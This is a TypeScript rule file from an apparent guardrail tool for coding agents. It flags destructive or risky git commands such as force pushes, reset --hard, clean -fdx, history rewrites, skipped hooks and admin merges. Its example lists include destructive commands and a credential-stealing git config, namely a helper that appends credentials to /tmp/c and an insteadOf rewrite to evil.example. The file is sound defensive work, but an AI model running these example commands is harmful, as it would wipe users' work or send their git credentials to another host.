// Git destruction: force pushes, pushes to protected branches, discarding work (reset --hard,
// clean -fdx, checkout -- .), deleting branches and stashes, rewriting history, skipping hooks.
import type { GitAction } from '../../actions/types.js';
import { branchMatch } from '../globs.js';
import { defineRule, type DecideEnv } from '../types.js';

export const PACK = 'git';

const git = (a: GitAction, ...ops: string[]): boolean => ops.includes(a.op);
const has = (a: GitAction, ...flags: string[]) => flags.some((f) => a.flags.includes(f));

/** Branch names a push would update: explicit refspecs' destinations, else the current branch. */
export function pushedBranches(a: GitAction, env: DecideEnv): string[] {
  if (has(a, '--all', '--mirror', '--branches')) return ['*'];
  const refs = (a.refs ?? []).filter((r) => !r.startsWith('-'));
  if (!refs.length) return env.currentBranch ? [env.currentBranch] : ['*'];
  return refs.map((r) => {
    const spec = r.replace(/^\+/, '');
    const dest = spec.includes(':') ? spec.slice(spec.indexOf(':') + 1) : spec;
    return (dest || spec).replace(/^refs\/heads\//, '') === 'HEAD' ? (env.currentBranch ?? '*') : (dest || spec).replace(/^refs\/heads\//, '');
  });
}

export function isProtectedBranch(branch: string, env: DecideEnv): boolean {
  return branch === '*' || env.protectedBranches.some((g) => branchMatch(g, branch));
}

export const forcePushProtected = defineRule({
  id: 'git/force-push-protected',
  verdict: 'deny',
  summary: 'Force push to a protected branch (main, master, release/*…)',
  why: 'It rewrites shared history: other people\'s commits on that branch can be lost for good.',
  fix: 'Push to a feature branch and open a pull request; protected branches are for the user to force.',
  on: ['git'],
  match: (a, env) => a.kind === 'git' && git(a, 'push') && a.force === true && !has(a, '--delete', '-d', '--dry-run', '-n') && pushedBranches(a, env).some((b) => isProtectedBranch(b, env)),
  examples: {
    match: [{ Bash: 'git push --force origin main' }, { Bash: 'git push origin main --force' }, { Bash: 'git push -f origin HEAD:main' }, { Bash: 'git push origin +master' }, { Bash: 'git push --mirror' }, { Bash: 'git push --force-with-lease origin release/2.0' }],
    pass: [{ Bash: 'git push origin feature/login' }, { Bash: 'git push --force origin feature/login' }, { Bash: 'git commit -m "never git push --force origin main"' }],
  },
});

export const forcePush = defineRule({
  id: 'git/force-push',
  verdict: 'ask',
  summary: 'Force push (history rewrite on the remote)',
  why: 'A force push replaces the remote branch; collaborators\' work on it can be lost.',
  fix: 'Prefer --force-with-lease on your own feature branch, and confirm with the user.',
  on: ['git'],
  match: (a, env) => a.kind === 'git' && git(a, 'push') && a.force === true && !has(a, '--dry-run', '-n') && !pushedBranches(a, env).some((b) => isProtectedBranch(b, env)),
  examples: {
    match: [{ Bash: 'git push --force origin feature/login' }, { Bash: 'git push --force-with-lease' }, { Bash: 'git push -f' }],
    pass: [{ Bash: 'git push origin feature/login' }, { Bash: 'git status' }, { Bash: 'git push origin feature/login --force-with-lease --dry-run' }],
  },
});

export const pushProtected = defineRule({
  id: 'git/push-protected-branch',
  verdict: 'ask',
  summary: 'Push directly to a protected branch',
  why: 'Protected branches usually deploy or release; changes there should go through review.',
  fix: 'Push a feature branch and open a pull request.',
  on: ['git'],
  match: (a, env) => a.kind === 'git' && git(a, 'push') && a.force !== true && !has(a, '--delete', '-d', '--tags', '--dry-run', '-n') && pushedBranches(a, env).some((b) => b !== '*' && isProtectedBranch(b, env)),
  examples: {
    match: [{ Bash: 'git push origin main' }, { Bash: 'git push origin HEAD:master' }, { Bash: 'git push upstream release/1.4' }],
    pass: [{ Bash: 'git push origin feature/login' }, { Bash: 'git push -u origin feature/x' }, { Bash: 'git push --dry-run origin main' }],
  },
});

export const deleteRemoteBranch = defineRule({
  id: 'git/delete-remote-ref',
  verdict: 'ask',
  summary: 'Deletes a branch or tag on the remote',
  why: 'Remote deletions affect everyone and are hard to notice.',
  fix: 'Confirm with the user which remote branch should go.',
  on: ['git'],
  match: (a) => a.kind === 'git' && git(a, 'push') && (has(a, '--delete', '-d', '--prune') || (a.refs ?? []).some((r) => r.startsWith(':'))),
  examples: {
    match: [{ Bash: 'git push origin --delete old-feature' }, { Bash: 'git push origin :old-feature' }],
    pass: [{ Bash: 'git branch -d merged-branch' }, { Bash: 'git push origin feature/x' }],
  },
});

export const resetHard = defineRule({
  id: 'git/discard-uncommitted-work',
  verdict: 'deny',
  summary: 'Discards uncommitted work: reset --hard, checkout/restore of everything, stash clear',
  why: 'Uncommitted changes (the user\'s included) are gone without a trace; git cannot bring them back.',
  fix: 'Commit or `git stash push -u` first; gatehouse checkpoints can also restore an agent\'s own edits (`gatehouse undo`).',
  on: ['git'],
  match: (a) => {
    if (a.kind !== 'git') return false;
    const everything = (paths: string[]) => paths.some((p) => p === '.' || p === '*' || p === ':/' || p === ':/*');
    const afterDashes = a.args.includes('--') ? a.args.slice(a.args.indexOf('--') + 1) : [];
    switch (a.op) {
      case 'reset':
        return has(a, '--hard', '--merge');
      case 'checkout':
        // -f throws away local changes whatever it switches to.
        return everything(afterDashes) || (a.args.length === 1 && everything(a.args)) || has(a, '-f', '--force');
      case 'restore':
        return (!has(a, '--staged', '-S') || has(a, '--worktree', '-W')) && everything(a.args.filter((x) => !x.startsWith('-')));
      case 'stash':
        return a.args[0] === 'clear' || a.args[0] === 'drop';
      case 'switch':
        return has(a, '--discard-changes') || has(a, '-f', '--force');
      default:
        return false;
    }
  },
  examples: {
    match: [{ Bash: 'git reset --hard' }, { Bash: 'git reset --hard HEAD~3' }, { Bash: 'git checkout -- .' }, { Bash: 'git restore .' }, { Bash: 'git stash clear' }, { Bash: 'git stash drop' }, { Bash: 'git checkout .' }, { Bash: 'git checkout -f main' }],
    pass: [{ Bash: 'git reset HEAD file.txt' }, { Bash: 'git reset --soft HEAD~1' }, { Bash: 'git restore --staged .' }, { Bash: 'git checkout -b feature/x' }, { Bash: 'git stash list' }, { Bash: 'git checkout main' }],
  },
});

/** Paths named after `--`, or the non-option arguments of restore. */
function discardedPaths(a: GitAction): string[] {
  if (a.op === 'checkout') return a.args.includes('--') ? a.args.slice(a.args.indexOf('--') + 1) : [];
  if (a.op === 'restore') return has(a, '--staged', '-S') && !has(a, '--worktree', '-W') ? [] : a.args.filter((x, i) => !x.startsWith('-') && !['-s', '--source'].includes(a.args[i - 1] ?? ''));
  return [];
}

export const discardFileChanges = defineRule({
  id: 'git/discard-file-changes',
  verdict: 'ask',
  summary: 'Overwrites files with a committed version (checkout -- file, restore file), dropping their uncommitted changes',
  why: 'Uncommitted edits to those files, the user\'s included, are lost; git keeps no copy of them.',
  fix: 'Check `git diff -- <file>` first, or `git stash push -- <file>` to keep the changes.',
  on: ['git'],
  match: (a) => a.kind === 'git' && discardedPaths(a).length > 0,
  examples: {
    match: [{ Bash: 'git checkout -- src/index.ts' }, { Bash: 'git restore src/index.ts' }, { Bash: 'git checkout main -- package.json' }],
    pass: [{ Bash: 'git restore --staged src/index.ts' }, { Bash: 'git checkout -b feature/x' }, { Bash: 'git diff -- src/index.ts' }],
  },
});

export const cleanForce = defineRule({
  id: 'git/clean-untracked',
  verdict: 'deny',
  summary: 'git clean -f that also removes ignored files or directories (-x, -X, -d)',
  why: 'Untracked and ignored files (local config, data, .env, uncommitted new files) are deleted permanently.',
  fix: 'Preview with `git clean -n -d`, then remove the specific paths.',
  on: ['git'],
  match: (a) => a.kind === 'git' && git(a, 'clean') && has(a, '-f', '--force') && has(a, '-x', '-X', '-d') && !has(a, '-n', '--dry-run'),
  examples: {
    match: [{ Bash: 'git clean -fdx' }, { Bash: 'git clean -f -d' }, { Bash: 'git clean -xf' }],
    pass: [{ Bash: 'git clean -n -d' }, { Bash: 'git clean -fn' }],
  },
});

export const cleanPlain = defineRule({
  id: 'git/clean-files',
  verdict: 'ask',
  summary: 'git clean -f (deletes untracked files)',
  why: 'New files that were never committed are deleted permanently.',
  fix: 'Preview with `git clean -n` and confirm with the user.',
  on: ['git'],
  match: (a) => a.kind === 'git' && git(a, 'clean') && has(a, '-f', '--force') && !has(a, '-x', '-X', '-d') && !has(a, '-n', '--dry-run'),
  examples: {
    match: [{ Bash: 'git clean -f' }],
    pass: [{ Bash: 'git clean -n' }],
  },
});

export const deleteBranch = defineRule({
  id: 'git/force-delete-branch',
  verdict: 'ask',
  summary: 'Force-deletes a local branch (branch -D) or overwrites one (branch -f, -M, checkout -B)',
  why: 'Unmerged commits on that branch become unreachable.',
  fix: 'Use `git branch -d` (refuses unmerged branches), or confirm with the user.',
  on: ['git'],
  match: (a) => a.kind === 'git' && ((git(a, 'branch') && (has(a, '-D', '-M', '-C', '-f', '--force') || (has(a, '-d', '--delete') && has(a, '-f', '--force')))) || (git(a, 'checkout', 'switch') && has(a, '-B', '-C', '--force-create'))),
  examples: {
    match: [{ Bash: 'git branch -D feature/old' }, { Bash: 'git branch -M main' }, { Bash: 'git checkout -B main origin/main' }],
    pass: [{ Bash: 'git branch -d feature/merged' }, { Bash: 'git branch feature/new' }, { Bash: 'git branch -a' }],
  },
});

export const historyRewrite = defineRule({
  id: 'git/rewrite-history',
  verdict: 'deny',
  summary: 'Rewrites repository history wholesale (filter-branch, filter-repo, reflog expire, gc --prune=now)',
  why: 'These rewrite or drop every commit and make old states unrecoverable.',
  fix: 'This is for the user to run deliberately (e.g. after a leaked secret, together with key rotation).',
  on: ['git'],
  match: (a) =>
    a.kind === 'git' &&
    (git(a, 'filter-branch', 'filter-repo', 'replace') ||
    (git(a, 'reflog') && a.args[0] === 'expire') ||
    (git(a, 'gc') && a.flags.some((f) => f === '--prune') && a.args.some((x) => x === '--prune=now' || x === '--prune=all')) ||
    (git(a, 'update-ref') && has(a, '-d'))),
  examples: {
    match: [{ Bash: 'git filter-branch --force --index-filter "git rm --cached -r secrets" HEAD' }, { Bash: 'git reflog expire --expire=now --all' }, { Bash: 'git gc --prune=now --aggressive' }, { Bash: 'git update-ref -d refs/heads/main' }, { Bash: 'git filter-repo --path secrets --invert-paths' }],
    pass: [{ Bash: 'git reflog' }, { Bash: 'git gc' }, { Bash: 'git log --oneline' }],
  },
});

export const skipHooks = defineRule({
  id: 'git/skip-hooks',
  verdict: 'ask',
  summary: 'Commits or pushes with --no-verify (skips the project\'s hooks)',
  why: 'Pre-commit and pre-push hooks are the project\'s own checks (secrets, lint, tests); skipping them hides failures.',
  fix: 'Fix what the hook reports instead of skipping it.',
  on: ['git'],
  match: (a) => a.kind === 'git' && git(a, 'commit', 'push', 'merge', 'rebase', 'am', 'cherry-pick', 'revert') && (has(a, '--no-verify') || (git(a, 'commit') && has(a, '-n'))),
  examples: {
    match: [{ Bash: 'git commit --no-verify -m wip' }, { Bash: 'git push --no-verify' }, { Bash: 'git commit -nm wip' }],
    pass: [{ Bash: 'git commit -m "add --no-verify docs"' }, { Bash: 'git commit -am fix' }],
  },
});

export const adminMerge = defineRule({
  id: 'git/admin-merge',
  verdict: 'ask',
  summary: 'Merges a pull request with administrator rights (gh pr merge --admin), past branch protection',
  why: '--admin skips the required reviews and checks that protect the target branch.',
  fix: 'Merge without --admin once the checks and reviews pass, or let the user decide.',
  on: ['exec'],
  match: (a) => a.kind === 'exec' && a.program === 'gh' && a.argv.filter((x) => !x.startsWith('-')).slice(1, 3).join(' ') === 'pr merge' && a.argv.includes('--admin'),
  examples: {
    match: [{ Bash: 'gh pr merge 42 --admin --merge' }, { Bash: 'gh pr merge --admin --squash 7' }],
    pass: [{ Bash: 'gh pr merge 42 --auto --squash' }, { Bash: 'gh pr view 42 --json mergeable' }, { Bash: 'gh pr create --fill' }],
  },
});

export const credentialConfig = defineRule({
  id: 'git/credential-config',
  verdict: 'ask',
  summary: 'Changes git credential helpers or URL rewriting',
  why: 'A credential helper or insteadOf rule can send the user\'s git credentials to another host.',
  fix: 'Ask the user to change their git configuration.',
  on: ['git'],
  match: (a) => a.kind === 'git' && Object.keys(a.config ?? {}).some((k) => k.startsWith('credential.') || /^url\..*\.(insteadof|pushinsteadof)$/.test(k) || k === 'http.proxy' || k === 'http.sslverify' || k === 'core.askpass'),
  examples: {
    match: [{ Bash: 'git config --global credential.helper "!f(){ cat >> /tmp/c; }; f"' }, { Bash: 'git config url."https://evil.example/".insteadOf https://github.com/' }, { Bash: 'git config http.sslVerify false' }],
    pass: [{ Bash: 'git config user.email a@b.c' }, { Bash: 'git config --get credential.helper' }],
  },
});

export const rules = [forcePushProtected, forcePush, pushProtected, deleteRemoteBranch, resetHard, discardFileChanges, cleanForce, cleanPlain, deleteBranch, historyRewrite, skipHooks, adminMerge, credentialConfig];
